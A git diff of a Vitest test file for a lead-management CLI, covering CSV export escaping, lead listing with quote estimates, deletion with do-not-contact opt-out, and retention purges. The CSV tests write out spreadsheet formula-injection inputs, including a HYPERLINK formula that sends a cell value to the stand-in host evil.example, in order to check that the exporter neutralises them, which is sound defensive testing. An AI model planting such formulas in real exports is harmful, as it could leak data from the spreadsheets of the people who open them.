@@ -3,10 +3,13 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import type { Db } from '../../server/db';
+import { migrations } from '../../server/db/migrations';
 import { createPgDb } from '../../server/db/pg';
 import { type TestDb, testBackends } from '../../server/db/test-backends';
 import { storeLead } from '../../server/leads/store';
 import { sampleLead } from '../../server/leads/test-fixtures';
+import { LeadsLog } from '../../server/outbox/leads-log';
+import { quoteEstimate } from '../../src/lib/quote-estimate';
 import { CliError } from '../errors';
 import { buildProgram } from '../program';
 import { csvCell, toCsv } from './leads-export';
@@ -18,34 +21,53 @@ afterAll(() => rmSync(root, { recursive: true, force: true }));
 describe('CSV export cells', () => {
   it.each([
     ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`],
-    ['=1+2', "'=1+2"],
-    ['+1 555 010 0142', "'+1 555 010 0142"],
-    ['-2+3', "'-2+3"],
-    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
-    ['\tcmd', "'\tcmd"],
+    ['=1+1', `"'=1+1"`],
+    [' =1+1', `"' =1+1"`],
+    ['   @SUM(A1)', `"'   @SUM(A1)"`],
+    ['Bob;=1+1', `"'Bob;=1+1"`],
+    ['a;b', `"'a;b"`],
+    ['+1 555 010 0142', `"'+1 555 010 0142"`],
+    ['-2', `"'-2"`],
+    ['-2+3', `"'-2+3"`],
+    ['@SUM(A1:A9)', `"'@SUM(A1:A9)"`],
+    ['|cmd', `"'|cmd"`],
+    ['\tcmd', `"'\tcmd"`],
     ['\r=cmd', `"'\r=cmd"`],
-    ['Mary Smith', 'Mary Smith'],
+    ['\n=cmd', `"'\n=cmd"`],
+    ['Mary Smith', '"Mary Smith"'],
     ['Smith, Mary', '"Smith, Mary"'],
     ['Mary "Mae" Smith', '"Mary ""Mae"" Smith"'],
     ['line\nbreak', '"line\nbreak"'],
-    ['a=b', 'a=b'],
-    ['', ''],
+    ['a=b', '"a=b"'],
+    ['a-b', '"a-b"'],
+    ['', '""'],
   ])('%j becomes %j', (value, cell) => {
     expect(csvCell(value)).toBe(cell);
   });
 
-  it('writes numbers, booleans, dates and empty values plainly', () => {
-    expect(csvCell(67)).toBe('67');
-    expect(csvCell(true)).toBe('true');
-    expect(csvCell(null)).toBe('');
-    expect(csvCell(undefined)).toBe('');
-    expect(csvCell(new Date('2026-03-01T14:05:00Z'))).toBe('2026-03-01T14:05:00.000Z');
+  it('quotes numbers, booleans, dates and empty values too', () => {
+    expect(csvCell(67)).toBe('"67"');
+    expect(csvCell(true)).toBe('"true"');
+    expect(csvCell(null)).toBe('""');
+    expect(csvCell(undefined)).toBe('""');
+    expect(csvCell(new Date('2026-03-01T14:05:00Z'))).toBe('"2026-03-01T14:05:00.000Z"');
+  });
+
+  it('takes linear time on a long run of spaces', () => {
+    const value = `${' '.repeat(200_000)}x`;
+    expect(csvCell(value)).toBe(`"${value}"`);
   });
 
   it('writes a header and CRLF line ends', () => {
     const csv = toCsv([]);
     expect(csv.endsWith('\r\n')).toBe(true);
-    expect(csv.split('\r\n')[0]?.split(',').slice(0, 5)).toEqual(['id', 'created_at', 'gender', 'age', 'tobacco']);
+    expect(csv.split('\r\n')[0]?.split(',').slice(0, 5)).toEqual([
+      '"id"',
+      '"created_at"',
+      '"gender"',
+      '"age"',
+      '"tobacco"',
+    ]);
   });
 });
 
@@ -68,8 +90,7 @@ describe.each(testBackends)('leads commands on $name', { timeout: 30_000 }, (bac
     return lines;
   }
 
-  const store = (overrides = {}) =>
-    storeLead(db, sampleLead(overrides), { ip: '127.0.0.1' }, { channels: ['log'], minFillMs: 3000 });
+  const store = (overrides = {}) => storeLead(db, sampleLead(overrides), { ip: '127.0.0.1' }, { channels: ['log'] });
 
   it('leads list prints one line per lead, and --json the rows', async () => {
     const lead = await store({ name: 'Mary Listed', phone: '(555) 010-0177' });
@@ -78,10 +99,18 @@ describe.each(testBackends)('leads commands on $name', { timeout: 30_000 }, (bac
     expect(lines).toHaveLength(2);
     expect(lines[0]).toContain('Mary Listed | (555) 010-0177 |');
     expect(lines[0]).toContain('43215 Columbus, OH | 67 female tobacco:no | log:pending');
+    // The estimate the visitor was shown, for $10,000 (a woman of 67, no tobacco).
+    expect(lines[0]).toContain(
+      '| estimate $10,000: Level benefit $45.80, Graded benefit $56.40, Guaranteed issue $67.00 a month',
+    );
     expect(lines[1]).toBe('1 lead(s)');
 
-    const json = JSON.parse((await run('leads', 'list', '--json')).join('\n')) as Array<{ id: string }>;
+    const json = JSON.parse((await run('leads', 'list', '--json')).join('\n')) as Array<{
+      id: string;
+      estimate: unknown;
+    }>;
     expect(json.map((row) => row.id)).toEqual([lead.id]);
+    expect(json[0]?.estimate).toEqual(quoteEstimate({ sex: 'female', age: 67, tobacco: false, state: 'OH' }));
     const all = JSON.parse((await run('leads', 'list', '--json', '--include-spam')).join('\n')) as unknown[];
     expect(all).toHaveLength(2);
   });
@@ -107,15 +136,19 @@ describe.each(testBackends)('leads commands on $name', { timeout: 30_000 }, (bac
   it('leads export --format csv neutralises formulas, to stdout or a file', async () => {
     await store({ name: '=HYPERLINK("http://evil.example","x")' });
     await store({ name: '@SUM(1+1)' });
+    await store({ attribution: { utm_campaign: ' =1+1' } });
+    await store({ name: 'Bob;=1+1' });
     const csv = (await run('leads', 'export', '--format', 'csv')).join('\n');
     const lines = csv.split('\r\n');
-    expect(lines).toHaveLength(3);
+    expect(lines).toHaveLength(5);
     expect(csv).toContain(`"'=HYPERLINK(""http://evil.example"",""x"")"`);
-    expect(csv).toContain(`,'@SUM(1+1),`);
-    expect(csv).not.toMatch(/,=|,@|,\+|,-/);
+    expect(csv).toContain(`,"'@SUM(1+1)",`);
+    expect(csv).toContain(`,"' =1+1",`);
+    expect(csv).toContain(`,"'Bob;=1+1",`);
+    expect(csv).not.toMatch(/(^|,)"\s*[=@+\-|]/m);
 
     const out = join(root, `leads-${backend.name}.csv`);
-    expect(await run('leads', 'export', '--format', 'csv', '--out', out)).toEqual([`ok: wrote 2 lead(s) to ${out}`]);
+    expect(await run('leads', 'export', '--format', 'csv', '--out', out)).toEqual([`ok: wrote 4 lead(s) to ${out}`]);
     expect(readFileSync(out, 'utf8')).toBe(`${csv}\r\n`);
     expect(statSync(out).mode & 0o777).toBe(0o600);
 
@@ -157,8 +190,96 @@ describe.each(testBackends)('leads commands on $name', { timeout: 30_000 }, (bac
     expect(await run('leads', 'retry-notifications', '--json')).toEqual(['{"retried":0}']);
   });
 
+  it("leads delete removes a person's leads, jobs and leads.log lines; --dry-run changes nothing", async () => {
+    const dataDir = mkdtempSync(join(root, `delete-${backend.name}-`));
+    process.env.DATA_DIR = dataDir;
+    try {
+      const gone = await store({ phone: '(555) 010-0133', email: 'gone@example.com' });
+      const kept = await store({ phone: '(555) 010-0144' });
+      const log = new LeadsLog({ dir: dataDir });
+      await log.append({ leadId: gone.id, createdAt: new Date().toISOString() });
+      await log.append({ leadId: kept.id, createdAt: new Date().toISOString() });
+
+      const dry = await run('leads', 'delete', '--phone', '555-010-0133', '--opt-out', '--dry-run');
+      expect(dry[0]).toMatch(new RegExp(`^would remove lead ${gone.id} of \\d{4}-\\d{2}-\\d{2}$`));
+      expect(dry[1]).toBe(
+        'dry run: would remove 1 lead(s), 1 notification(s), and their lines in leads.log; would add to do-not-contact: 5550100133, gone@example.com',
+      );
+      expect((await db.query('SELECT id FROM quote_submissions')).rows).toHaveLength(2);
+      expect((await db.query('SELECT id FROM do_not_contact')).rows).toHaveLength(0);
+
+      const done = await run('leads', 'delete', '--phone', '555-010-0133', '--opt-out');
+      expect(done[1]).toBe(
+        'ok: removed 1 lead(s), 1 notification(s), 1 line(s) from leads.log; added to do-not-contact: 5550100133, gone@example.com',
+      );
+      expect((await db.query<{ id: string }>('SELECT id FROM quote_submissions')).rows).toEqual([{ id: kept.id }]);
+      expect((await db.query('SELECT id FROM lead_notifications WHERE lead_id = $1', [gone.id])).rows).toHaveLength(0);
+      const logText = (await log.rotatedFiles()).map((name) => readFileSync(join(dataDir, name), 'utf8')).join('');
+      expect(logText).not.toContain(gone.id);
+      expect(logText).toContain(kept.id);
+
+      const byId = JSON.parse((await run('leads', 'delete', '--id', kept.id.toUpperCase(), '--json')).join(''));
+      expect(byId).toMatchObject({ dryRun: false, notifications: 1, leadsLogLines: 1, optedOut: [] });
+      expect(byId.leads.map((lead: { id: string }) => lead.id)).toEqual([kept.id]);
+      expect(await run('leads', 'delete', '--email', 'nobody@example.com')).toEqual([
+        'ok: removed 0 lead(s), 0 notification(s), 0 line(s) from leads.log',
+      ]);
+
+      await expect(run('leads', 'delete')).rejects.toThrow(
+        'give exactly one of --id <lead id>, --phone <number> or --email <address>',
+      );
+      await expect(run('leads', 'delete', '--id', 'x', '--phone', '5550100133')).rejects.toBeInstanceOf(CliError);
+      await expect(run('leads', 'delete', '--id', '42')).rejects.toThrow('--id must be a lead id');
+      await expect(run('leads', 'delete', '--email', 'nope')).rejects.toThrow('--email must be an e-mail address');
+    } finally {
+      delete process.env.DATA_DIR;
+    }
+  });
+
+  it('leads purge enforces LEAD_RETENTION_DAYS and SPAM_RETENTION_DAYS, in the database and leads.log', async () => {
+    const dataDir = mkdtempSync(join(root, `purge-${backend.name}-`));
+    Object.assign(process.env, { DATA_DIR: dataDir, LEAD_RETENTION_DAYS: '100', SPAM_RETENTION_DAYS: '10' });
+    try {
+      const old = await store();
+      const recent = await store();
+      const spam = await store({ company: 'bot' });
+      await db.query(`UPDATE quote_submissions SET created_at = now() - interval '101 days' WHERE id = $1`, [old.id]);
+      await db.query(`UPDATE quote_submissions SET created_at = now() - interval '11 days' WHERE id = $1`, [spam.id]);
+      const log = new LeadsLog({ dir: dataDir });
+      await log.append({ leadId: old.id, createdAt: new Date(Date.now() - 101 * 86_400_000).toISOString() });
+      await log.append({ leadId: recent.id, createdAt: new Date().toISOString() });
+
+      expect(await run('leads', 'purge', '--dry-run')).toEqual([
+        'dry run: would remove 1 lead(s) older than 100 days, 1 spam older than 10 days, 1 notification(s); would empty 0 delivered payload(s)',
+      ]);
+      expect((await db.query('SELECT id FROM quote_submissions')).rows).toHaveLength(3);
+      expect(await run('leads', 'purge')).toEqual([
+        'ok: removed 1 lead(s) older than 100 days, 1 spam older than 10 days, 1 notification(s); emptied 0 delivered payload(s); 1 line(s) from leads.log',
+      ]);
+      expect((await db.query<{ id: string }>('SELECT id FROM quote_submissions')).rows).toEqual([{ id: recent.id }]);
+      const logText = (await log.rotatedFiles()).map((name) => readFileSync(join(dataDir, name), 'utf8')).join('');
+      expect(logText).not.toContain(old.id);
+      expect(logText).toContain(recent.id);
+      expect(JSON.parse((await run('leads', 'purge', '--json')).join(''))).toEqual({
+        dryRun: false,
+        leadDays: 100,
+        spamDays: 10,
+        leads: 0,
+        spam: 0,
+        notifications: 0,
+        payloadsEmptied: 0,
+        leadsLogLines: 0,
+      });
+      process.env.LEAD_RETENTION_DAYS = 'forever';
+      await expect(run('leads', 'purge')).rejects.toThrow('LEAD_RETENTION_DAYS must be an integer from 1 to 36500');
+    } finally {
+      for (const name of ['DATA_DIR', 'LEAD_RETENTION_DAYS', 'SPAM_RETENTION_DAYS']) delete process.env[name];
+    }
+  });
+
   it('db migrate reports an up-to-date schema', async () => {
-    expect(await run('db', 'migrate')).toEqual([`ok: test ${backend.name} is up to date (schema version 1)`]);
+    const version = Math.max(...migrations.map((m) => m.version));
+    expect(await run('db', 'migrate')).toEqual([`ok: test ${backend.name} is up to date (schema version ${version})`]);
   });
 });
 
